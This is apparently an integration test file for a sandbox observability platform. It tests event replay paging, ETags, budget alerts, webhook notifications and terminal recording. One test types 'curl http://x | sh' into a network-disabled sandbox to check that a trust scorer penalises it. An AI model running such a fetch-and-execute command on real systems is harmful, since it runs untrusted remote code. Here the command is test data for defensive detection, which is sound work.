"""The observability routes over HTTP against the real local platform (``platform`` fixture)."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import websockets
from eventually import TIMEOUT, eventually_async
from observe_helpers import event
from webhook_receiver import Receiver

pytestmark = pytest.mark.integration


@pytest.fixture
async def api(platform: Any) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(
        base_url=f"{platform.url}/v1", headers=platform.headers, timeout=120
    ) as client:
        yield client


def _problem(response: httpx.Response, status: int) -> str:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    detail: str = response.json()["detail"]
    return detail


async def _running_sandbox(api: httpx.AsyncClient, **fields: Any) -> str:
    created = await api.post("/sandboxes", json={"template": "minimal", **fields})
    assert created.status_code == 201, created.text
    sandbox_id: str = created.json()["id"]
    await eventually_async(lambda: _status_is(api, sandbox_id, "running"), what="the start")
    return sandbox_id


async def _status_is(api: httpx.AsyncClient, sandbox_id: str, status: str) -> bool:
    return bool((await api.get(f"/sandboxes/{sandbox_id}")).json()["status"] == status)


async def _all_events(api: httpx.AsyncClient, session_id: str) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    after = 0
    while True:
        page = (await api.get(f"/sessions/{session_id}/replay?after_seq={after}&limit=1000")).json()
        events += page["events"]
        after = page["next_seq"]
        if not page["has_more"]:
            return events


async def test_burst_of_ten_batches_pages_back_in_order(api: httpx.AsyncClient) -> None:
    session_id = f"http-burst-{time.time_ns()}"
    for batch in range(10):
        events = [
            event(second=batch * 1000 + i, session_id=session_id, payload={"n": batch * 1000 + i})
            for i in range(1000)
        ]
        answer = await api.post("/events/ingest", json={"events": events})
        assert answer.status_code in (200, 201, 202), answer.text
        assert answer.json()["accepted"] == 1000 and answer.json()["errors"] == 0
    events = await _all_events(api, session_id)
    assert [e["data"]["n"] for e in events] == list(range(10_000))
    assert [e["sequence"] for e in events] == list(range(1, 10_001))
    summary = (await api.get(f"/sessions/{session_id}/replay/summary")).json()
    assert summary["event_count"] == 10_000 and summary["types"] == {"command": 10_000}


async def test_a_replay_page_is_conditional_on_its_own_version(api: httpx.AsyncClient) -> None:
    """A replay page's ETag is made of its query and what it says of the session, not a
    hash of its body: a 304 while nothing was added, a new page once an event was."""
    session_id = f"http-etag-{time.time_ns()}"

    async def ingest(n: int) -> None:
        body = {"events": [event(second=n, session_id=session_id, payload={"n": n})]}
        assert (await api.post("/events/ingest", json=body)).status_code in (200, 201, 202)

    await ingest(0)
    url = f"/sessions/{session_id}/replay?after_seq=0&limit=10"
    first = await api.get(url)
    tag = first.headers["etag"]
    assert first.status_code == 200 and tag.startswith("W/")
    same = await api.get(url, headers={"If-None-Match": tag})
    assert same.status_code == 304 and same.headers["etag"] == tag
    # Another query of the same session is another page.
    other = await api.get(f"/sessions/{session_id}/replay?after_seq=0&limit=9")
    assert other.headers["etag"] != tag

    await ingest(1)
    changed = await api.get(url, headers={"If-None-Match": tag})
    assert changed.status_code == 200 and changed.headers["etag"] != tag
    assert [e["data"]["n"] for e in changed.json()["events"]] == [0, 1]


async def test_a_replay_page_names_the_next_in_a_link(api: httpx.AsyncClient) -> None:
    """``Link: rel="next"`` is the request's own query with ``after_seq`` moved to the
    page's ``next_seq``; the last page names none (a client asks ahead with it)."""
    session_id = f"http-link-{time.time_ns()}"
    body = {"events": [event(second=n, session_id=session_id) for n in range(5)]}
    assert (await api.post("/events/ingest", json=body)).status_code in (200, 201, 202)
    first = await api.get(f"/sessions/{session_id}/replay?limit=2&type=command")
    assert first.json()["next_seq"] == 2 and first.json()["has_more"]
    link = httpx.URL(first.links["next"]["url"])
    assert link.path == f"/v1/sessions/{session_id}/replay" and not link.host
    assert dict(link.params) == {"limit": "2", "type": "command", "after_seq": "2"}
    last = await api.get(f"/sessions/{session_id}/replay?limit=2&after_seq=4")
    assert not last.json()["has_more"] and "link" not in last.headers


async def test_clear_errors(api: httpx.AsyncClient) -> None:
    mixed = await api.post(
        "/events/ingest",
        json={"events": [event(), {"type": "command"}, event(payload={"b": "x" * 70_000})]},
    )
    assert mixed.json()["accepted"] == 1 and mixed.json()["errors"] == 2
    too_many = await api.post("/events/ingest", json={"events": [event()] * 1001})
    assert "at most 1000" in _problem(too_many, 400)
    assert "no session" in _problem(await api.get("/sessions/sess-nope/replay"), 404)
    session_id = f"http-errors-{time.time_ns()}"
    await api.post("/events/ingest", json={"events": [event(session_id=session_id)]})
    assert "limit" in _problem(await api.get(f"/sessions/{session_id}/replay?limit=5000"), 400)
    rules = (await api.get("/alerts/rules")).json()
    rule = next(r for r in rules if r["type"] == "error_spike")
    wrong = await api.put(f"/alerts/rules/{rule['id']}", json={"config": {"window_minutes": "5"}})
    assert "config.window_minutes must be a number" in _problem(wrong, 400)
    assert "unknown channel" in _problem(
        await api.put("/notifications/config", json={"enabled_channels": ["pager"]}), 400
    )


async def test_budget_is_warned_escalated_and_enforced(
    api: httpx.AsyncClient, receiver: Receiver
) -> None:
    await api.put(
        "/notifications/config",
        json={
            "enabled_channels": ["in_app", "slack", "discord"],
            "slack_webhook_url": f"{receiver.url}/slack",
            "discord_webhook_url": f"{receiver.url}/discord",
        },
    )
    sandbox_id = await _running_sandbox(api, budget=1.0)
    try:
        for n, cost in enumerate([0.85, 0.12, 0.05]):
            payload = {"model": "claude-4", "tokens_in": 10, "tokens_out": 10, "cost_usd": cost}
            answer = await api.post(
                "/events/ingest",
                json={"events": [event("llm_call", n, sandbox_id=sandbox_id, payload=payload)]},
            )
            assert answer.json()["accepted"] == 1
        alerts = [
            a for a in (await api.get("/alerts")).json()["alerts"] if a["sandbox_id"] == sandbox_id
        ]
        assert sorted(a["meta"]["level"] for a in alerts) == ["critical", "exceeded", "warning"]
        await eventually_async(
            lambda: _status_is(api, sandbox_id, "stopped"), what="the stop at 100 %"
        )
        ids = {a["id"] for a in alerts}
        notifications = (await api.get("/notifications?limit=100")).json()["notifications"]
        in_app = [n for n in notifications if n["alert_id"] in ids and n["channel"] == "in_app"]
        assert len(in_app) == 3
        await eventually_async(
            lambda: (
                len(receiver.received.get("/slack", [])) >= 3
                and len(receiver.received.get("/discord", [])) >= 3
            ),
            what="three messages on each webhook",
        )
        config = (await api.get("/notifications/config")).json()
        assert receiver.url not in json.dumps(config)  # credentials only as hints
        assert config["slack_webhook_hint"] == "...lack"
    finally:
        await api.put(
            "/notifications/config",
            json={"slack_webhook_url": "__clear__", "discord_webhook_url": "__clear__"},
        )
        await api.delete(f"/sandboxes/{sandbox_id}")


async def test_terminal_typing_is_recorded_replayed_and_judged(
    api: httpx.AsyncClient, platform: Any
) -> None:
    sandbox_id = await _running_sandbox(api, network_mode="none")
    try:
        ticket = (await api.post("/auth/socket-ticket")).json()["ticket"]
        url = f"{platform.ws_url}/v1/sandboxes/{sandbox_id}/terminal?token={ticket}"
        shown = ""
        async with websockets.connect(url, subprotocols=["terminal"]) as ws:  # type: ignore[list-item]
            for line in ("curl http://x | sh", "echo made > made.txt && echo obs-$((6*7))"):
                await ws.send(json.dumps({"type": "input", "data": line + "\r"}))
            async with asyncio.timeout(TIMEOUT):
                while "obs-42" not in shown:
                    frame = json.loads(await ws.recv())
                    if frame["type"] == "output":
                        shown += frame["data"]
            await ws.send(json.dumps({"type": "input", "data": "exit\r"}))
            with pytest.raises(websockets.ConnectionClosed):
                async with asyncio.timeout(TIMEOUT):
                    while True:
                        frame = json.loads(await ws.recv())
                        if frame["type"] == "output":
                            shown += frame["data"]
        [session] = (await api.get(f"/sandboxes/{sandbox_id}/sessions")).json()

        async def judged() -> dict[str, Any] | None:
            # The commands are judged as they are recorded, after the socket has gone.
            scores = (await api.get(f"/trust/sandboxes/{sandbox_id}")).json()
            return scores[0] if scores and scores[0]["score"] < 100 else None

        score = await eventually_async(judged, what="a trust deduction for curl | sh")
        assert score["session_id"] == session["id"] and score["score"] == 75

        async def with_made_txt() -> list[dict[str, Any]] | None:
            events = await _all_events(api, session["id"])
            made = [
                e
                for e in events
                if e["type"] == "file_op" and e["data"]["path"].endswith("/made.txt")
            ]
            return events if made else None

        events = await eventually_async(with_made_txt, what="a file_op for made.txt")
        command = next(e for e in events if e["type"] == "command")
        assert command["data"]["command"] == "curl http://x | sh"
        assert score["deductions"][0]["event_id"] == command["id"]
        output = "".join(
            e["data"]["data"] for e in events if e["data"].get("kind") == "terminal_output"
        )
        assert output == shown
    finally:
        await api.delete(f"/sandboxes/{sandbox_id}")
